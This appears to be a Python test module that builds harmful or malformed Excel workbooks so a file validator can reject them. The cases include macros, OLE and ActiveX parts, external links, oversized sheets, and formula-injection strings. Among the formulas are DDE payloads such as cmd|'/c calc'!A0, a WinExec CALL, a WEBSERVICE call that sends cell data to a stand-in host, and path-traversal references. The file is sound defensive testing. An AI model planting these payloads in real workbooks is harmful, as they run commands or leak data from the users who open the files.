"""Excel workbooks (.xlsx) with what does not belong among figures, and with sheets of absurd size."""
# ruff: noqa: E501 (a case is a row of a table)

from __future__ import annotations

from collections.abc import Iterator

from corpusbouw import (
    BEGIN,
    BLADTYPE,
    DOCUMENT,
    HOOFD,
    TABEL,
    Geval,
    blad,
    cel,
    formule,
    relatie,
    relaties,
    xlsx,
    xlsx_delen,
    zip_van,
)

BLAD1 = "xl/worksheets/sheet1.xml"
BLADRELS = "xl/worksheets/_rels/sheet1.xml.rels"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
ELDERS = "http://voorbeeld.invalid/x"
MACROS, OBJECT = "heeft macro's", "heeft een ingesloten bestand of object"
BESTURING = "heeft een besturingselement (ActiveX) of een invoegtoepassing"
VERBINDING, ANDER = "heeft een gegevensverbinding of query", "heeft een koppeling met een ander bestand"
LINT = "past de knoppen van Excel aan (customUI)"


def override(deel: str, soort: str) -> str:
    return f'<Override PartName="/{deel}" ContentType="{soort}"/>'


DELEN = (
    # file, part, its content, what is said of it
    ("macro.xlsx", "xl/vbaProject.bin", b"\0", MACROS),
    ("macro-elders.xlsx", "map/VBAPROJECT.BIN", b"\0", MACROS),
    ("macroblad.xlsx", "xl/macrosheets/sheet1.xml", "<a/>", MACROS),
    ("macroblad-vermomd.xlsx", "xl/worksheets/sheet2.xml", f'<xm:macrosheet xmlns:xm="{HOOFD}"/>', MACROS),
    ("dialoogblad.xlsx", "xl/dialogsheets/sheet1.xml", "<a/>", MACROS),
    ("lint.xlsx", "customUI/customUI14.xml", "<customUI/>", LINT),
    ("lint-vermomd.xlsx", "xl/a.xml", '<customUI xmlns="x"/>', LINT),
    ("activex.xlsx", "xl/activeX/activeX1.xml", "<a/>", BESTURING),
    ("activex-vermomd.xlsx", "xl/a.xml", '<ax:ocx xmlns:ax="x"/>', BESTURING),
    ("ingesloten-word.xlsx", "xl/embeddings/document.docx", b"x", OBJECT),
    ("ingesloten-ole.xlsx", "xl/oud.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", OBJECT),
    ("ingesloten-programma.xlsx", "xl/media/logo.png", b"MZ\x90\0", OBJECT),
    ("ingesloten-pdf.xlsx", "docProps/thumbnail.jpeg", b"%PDF-1.4", OBJECT),
    ("ander-bestand.xlsx", "xl/externalLinks/externalLink1.xml", "<a/>", ANDER),
    ("ander-bestand-vermomd.xlsx", "xl/a.xml", '<externalLink xmlns="x"/>', ANDER),
    ("verbinding.xlsx", "xl/connections.xml", "<a/>", VERBINDING),
    ("verbinding-vermomd.xlsx", "xl/a.xml", '<connections xmlns="x"/>', VERBINDING),
    ("query.xlsx", "xl/queryTables/queryTable1.xml", "<a/>", VERBINDING),
    ("powerquery.xlsx", "customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', VERBINDING),
    ("rtd.xlsx", "xl/volatileDependencies.xml", f'<volTypes xmlns="{HOOFD}"/>', VERBINDING),
    ("gegevensmodel.xlsx", "xl/model/item.data", b"x", VERBINDING),
    ("querytabel.xlsx", "xl/tables/table1.xml", '<table tableType="queryTable" ref="A1:B2"/>', VERBINDING),
    ("draaitabel-extern.xlsx", "xl/pivotCache/pivotCacheDefinition1.xml", '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>', VERBINDING),
    ("dde-koppeling.xlsx", "xl/a.xml", '<x><ddeLink ddeService="cmd"/></x>', ANDER),
)  # fmt: skip
TYPEN = (
    ("type-macro.xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", MACROS),
    ("type-vba.xlsx", "application/vnd.ms-office.vbaProject", MACROS),
    ("type-activex.xlsx", "application/vnd.ms-office.activeX+xml", BESTURING),
    ("type-ole.xlsx", "application/vnd.openxmlformats-officedocument.oleObject", OBJECT),
    ("type-extern.xlsx", f"{BLADTYPE}.externalLink+xml", ANDER),
    ("type-verbinding.xlsx", f"{BLADTYPE}.connections+xml", VERBINDING),
    ("type-xlsb.xlsx", "application/vnd.ms-excel.sheet.binary", "is een binaire Excel-werkmap (.xlsb)"),
)
RELATIESOORTEN = (
    ("rel-vba.xlsx", relatie("vbaProject", "a.bin", basis=MICROSOFT), MACROS),
    ("rel-macroblad.xlsx", relatie("xlMacrosheet", "a.xml", basis=MICROSOFT), MACROS),
    ("rel-lint.xlsx", relatie("ui/extensibility", "a.xml", basis=MICROSOFT), LINT),
    ("rel-ole.xlsx", relatie("oleObject", "a.bin"), OBJECT),
    ("rel-pakket.xlsx", relatie("package", "a.docx"), OBJECT),
    ("rel-control.xlsx", relatie("control", "a.xml"), BESTURING),
    ("rel-extern.xlsx", relatie("externalLinkPath", "boek.xlsx", buiten=True), ANDER),
    ("rel-sjabloon.xlsx", relatie("attachedTemplate", "file:///x.xltm", buiten=True), ANDER),
    ("rel-query.xlsx", relatie("queryTable", "a.xml"), VERBINDING),
)
FORMULES = (
    ("formule-webservice.xlsx", '_xlfn.WEBSERVICE("http://voorbeeld.invalid/"&amp;A2)', "WEBSERVICE"),
    ("formule-entiteit.xlsx", "_xlfn.&#87;EBSERVICE(A2)", "WEBSERVICE"),
    ("formule-cdata.xlsx", "<![CDATA[WEBSER]]>VICE(A2)", "WEBSERVICE"),
    ("formule-commentaar.xlsx", "WEB<!-- x -->SERVICE(A2)", "WEBSERVICE"),
    ("formule-kleine-letters.xlsx", "webservice(A2)", "WEBSERVICE"),
    ("formule-plaatje.xlsx", '_xlfn.IMAGE("http://voorbeeld.invalid/a.png")', "IMAGE"),
    ("formule-rtd.xlsx", 'RTD("prog.id",,"x")', "RTD"),
    ("formule-call.xlsx", 'CALL("kernel32","WinExec","JCJ","calc",0)', "CALL"),
    ("formule-register.xlsx", 'REGISTER.ID("kernel32","WinExec")', "REGISTER.ID"),
    ("formule-python.xlsx", "_xlfn._xlws.PY(0,1)", "PY"),
    ("formule-kubus.xlsx", 'CUBEVALUE("model","[x]")', "CUBEVALUE"),
    ("formule-google.xlsx", 'IMPORTDATA("http://voorbeeld.invalid")', "IMPORTDATA"),
)


def gevallen() -> Iterator[Geval]:
    for naam, deel, inhoud, reden in DELEN:
        yield Geval(naam, lambda deel=deel, inhoud=inhoud: xlsx(extra={deel: inhoud}), f"{reden} ('{deel}')")
    for naam, soort, reden in TYPEN:
        yield Geval(naam, lambda soort=soort: xlsx(typen=override("xl/a.bin", soort)), reden)
    for naam, regel, reden in RELATIESOORTEN:
        yield Geval(naam, lambda regel=regel: xlsx(bladrelaties=regel), f"{reden} ('{BLADRELS}')")
    for naam, tekst, functie in FORMULES:
        yield Geval(
            naam,
            lambda tekst=tekst: xlsx(blad(formule(tekst))),
            f"heeft een formule met {functie}, die gegevens van buiten haalt of iets start",
        )
    yield from _buiten()
    yield from _afmetingen()


def _buiten() -> Iterator[Geval]:
    dde = "heeft een formule die een ander programma aanroept (DDE): "
    yield Geval("formule-dde.xlsx", lambda: xlsx(blad(formule("cmd|'/c calc'!A0"))), f"{dde}'cmd|'/c calc'!A0'")
    yield Geval(
        "formule-dde-rekent.xlsx",
        lambda: xlsx(blad(formule("-2+3+cmd|' /C calc'!D2"))),
        f"{dde}'-2+3+cmd|' /C calc'!D2'",
    )
    elders = "heeft een formule die naar een ander bestand verwijst: "
    for naam, tekst in (
        ("formule-nummer.xlsx", "[1]Blad1!A1"),
        ("formule-nummer-naam.xlsx", "SUM([2]!Totaal)"),
        ("formule-nummer-quote.xlsx", "1+'[1]Mijn blad'!A1"),
        ("formule-pad.xlsx", "'C:\\map\\[boek.xlsx]Blad'!A1"),
    ):
        yield Geval(naam, lambda tekst=tekst: xlsx(blad(formule(tekst))), f"{elders}'{tekst}'")
    regel = '<dataValidations><dataValidation type="list" sqref="A1"><formula1>[1]Blad!$A$1</formula1></dataValidation></dataValidations>'
    yield Geval("lijst-elders.xlsx", lambda: xlsx(blad(TABEL, na=regel)), f"{elders}'[1]Blad!$A$1'")
    kleur = '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>'
    yield Geval(
        "kleurregel-webservice.xlsx",
        lambda: xlsx(blad(TABEL, na=kleur)),
        "heeft een formule met WEBSERVICE, die gegevens van buiten haalt of iets start",
    )
    namen = "<definedNames><definedName name='{}'{}>{}</definedName></definedNames>"
    yield Geval(
        "naam-dde.xlsx", lambda: xlsx(boek=namen.format("x", "", "cmd|'/c calc'!A0")), f"{dde}'cmd|'/c calc'!A0'"
    )
    yield Geval(
        "naam-macro4.xlsx",
        lambda: xlsx(boek=namen.format("x", "", 'EVALUATE("1")')),
        "heeft een formule met EVALUATE, die gegevens van buiten haalt of iets start",
    )
    yield Geval(
        "naam-macro.xlsx",
        lambda: xlsx(boek=namen.format("Auto_Open", ' xlm="1" function="1"', "A1")),
        f"{MACROS} ('Auto_Open')",
    )
    yield Geval(
        "boek-extern.xlsx",
        lambda: xlsx(boek='<externalReferences><externalReference r:id="rId5"/></externalReferences>'),
        ANDER,
    )
    yield Geval(
        "plaatje-buiten.xlsx",
        lambda: xlsx(bladrelaties=relatie("image", ELDERS, buiten=True)),
        f"haalt iets van buiten: '{ELDERS}'",
    )
    yield Geval("blad-buiten.xlsx", _blad_buiten, "haalt iets van buiten: '\\\\server\\deel\\blad.xml'")
    yield Geval(
        "rel-omhoog.xlsx",
        lambda: xlsx(bladrelaties=relatie("image", "../../../../geheim.png")),
        "bevat een verwijzing uit het bestand vandaan: '../../../../geheim.png'",
    )
    yield Geval(
        "rel-bestand.xlsx",
        lambda: xlsx(bladrelaties=relatie("image", "file:///c:/geheim.png")),
        "bevat een verwijzing uit het bestand vandaan: 'file:///c:/geheim.png'",
    )
    blok = f"heeft een ingesloten object (onderdeel '{BLAD1}')"
    yield Geval(
        "blad-ole.xlsx",
        lambda: xlsx(blad(TABEL, na='<oleObjects><oleObject progId="Word.Document"/></oleObjects>')),
        blok,
    )
    for naam, plek in (
        ("blad-in-printer.xlsx", "xl/printerSettings/printerSettings1.bin"),
        ("blad-in-media.xlsx", "xl/media/blad.png"),
    ):
        reden = "gebruikt een plaatje of printerinstelling als iets anders ('{}')"
        yield Geval(
            naam,
            lambda plek=plek: xlsx(bladrelaties=relatie("worksheet", f"/{plek}"), extra={plek: blad(TABEL)}),
            reden.format(f"/{plek}"),
        )
        yield Geval(
            f"type-{naam}",
            lambda plek=plek: xlsx(typen=override(plek, f"{BLADTYPE}.worksheet+xml"), extra={plek: blad(TABEL)}),
            reden.format(f"/{plek}"),
        )
    yield Geval("strikt.xlsx", _strikt, "is opgeslagen als 'Strict Open XML-werkblad'")
    yield Geval(
        "raadsel-in-map.xlsx",
        lambda: xlsx(extra={"xl/media/a.png": b"geen plaatje"}),
        "is beschadigd: onderdeel 'xl/media/a.png' is geen geldige XML",
    )


def _afmetingen() -> Iterator[Geval]:
    yield Geval("hoeken.xlsx", lambda: xlsx(blad(cel("A1") + cel("XFD1048576"))), _ver("1.048.576", "16.384"))
    yield Geval(
        "hoeken-formule.xlsx",
        lambda: xlsx(blad(cel("A1") + '<row r="1048576"><c r="XFD1048576"><f>A1</f></c></row>')),
        _ver("1.048.576", "16.384"),
    )
    yield Geval(
        "hoeken-zonder-plek.xlsx",
        lambda: xlsx(blad(cel("A1") + '<row r="1048576">' + "<c/>" * 99 + "<c><v>1</v></c></row>")),
        _ver("1.048.576", "100"),
    )
    yield Geval("lang-en-breed.xlsx", lambda: xlsx(blad(cel("A1") + cel("ZZ20000"))), _ver("20.000", "702"))
    for naam, plek in (
        ("kolom-te-ver.xlsx", "XFE1"),
        ("rij-te-ver.xlsx", "A1048577"),
        ("rij-nul.xlsx", "A0"),
        ("cel-lang.xlsx", "A99999999999999999999"),
        ("cel-raar.xlsx", "1A"),
        ("cel-klein.xlsx", "a1"),
    ):
        yield Geval(
            naam, lambda plek=plek: xlsx(blad(f'<row><c r="{plek}"><f>1</f><v>1</v></c></row>')), _bestaat_niet(plek)
        )
    yield Geval("rij-negatief.xlsx", lambda: xlsx(blad('<row r="-1"/>')), _bestaat_niet("-1"))
    yield Geval("rij-breed-cijfer.xlsx", lambda: xlsx(blad('<row r="１"/>')), _bestaat_niet("１"))
    yield Geval(
        "cellen-veel.xlsx",
        lambda: xlsx(blad("".join(f'<row r="{r}">' + "<c/>" * 1_000 + "</row>" for r in range(1, 2_002)))),
        "heeft meer dan 2.000.000 cellen",
    )
    yield Geval("cellen-veel-gewoon.xlsx", _veel_gewone_cellen, "heeft meer dan 2.000.000 cellen")
    samen = "heeft samengevoegde cellen of koppelingen over meer dan 200.000 cellen"
    yield Geval(
        "samengevoegd.xlsx",
        lambda: xlsx(blad(TABEL, na='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
        samen,
    )
    yield Geval(
        "samengevoegd-veel.xlsx",
        lambda: xlsx(blad(TABEL, na="<mergeCells>" + '<mergeCell ref="A1:Z999"/>' * 10 + "</mergeCells>")),
        samen,
    )
    yield Geval(
        "koppeling-over-blad.xlsx",
        lambda: xlsx(blad(TABEL, na='<hyperlinks><hyperlink ref="A1:XFD1048576" location="Opgave!A1"/></hyperlinks>')),
        samen,
    )
    yield Geval(
        "samengevoegd-raar.xlsx",
        lambda: xlsx(blad(TABEL, na='<mergeCells><mergeCell ref="A1:B"/></mergeCells>')),
        _bestaat_niet("A1:B"),
    )
    yield Geval("bladen-veel.xlsx", _veel_bladen, "heeft meer dan 250 bladen")
    yield Geval(
        "formule-lang.xlsx",
        lambda: xlsx(blad(formule("1+" * 20_000 + "1"))),
        "heeft een formule van meer dan 20000 tekens",
    )


def _ver(rijen: str, kolommen: str) -> str:
    return f"heeft cijfers die te ver uit elkaar staan: {rijen} rijen bij {kolommen} kolommen (onderdeel '{BLAD1}')"


def _bestaat_niet(plek: str) -> str:
    return f"noemt een cel die niet bestaat: '{plek}' (onderdeel '{BLAD1}')"


def _blad_buiten() -> bytes:
    doel = "\\\\server\\deel\\blad.xml"
    return zip_van({**xlsx_delen(), "xl/_rels/workbook.xml.rels": relaties(relatie("worksheet", doel, buiten=True))})


def _strikt() -> bytes:
    boek = f'{BEGIN}<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main" conformance="strict"><sheets/></workbook>'
    return xlsx(extra={"xl/workbook.xml": boek})


def _veel_gewone_cellen() -> bytes:
    """Plain rows, as Excel writes them, of figures that do not pack too well."""
    kolommen = [a + b for a in "ABCD" for b in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"][:100]
    sjabloon = "".join(f'<c r="{kolom}#"><v>{i * 104_729 % 999_983}</v></c>' for i, kolom in enumerate(kolommen))
    rijen = (f'<row r="#">{sjabloon}</row>'.replace("#", str(rij)) for rij in range(1, 20_002))
    return xlsx(blad("".join(rijen)))


def _veel_bladen() -> bytes:
    bladen = "".join(f'<sheet name="b{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 252))
    return xlsx(
        extra={
            "xl/workbook.xml": f'{BEGIN}<workbook xmlns="{HOOFD}" xmlns:r="{DOCUMENT}"><sheets>{bladen}</sheets></workbook>'
        }
    )
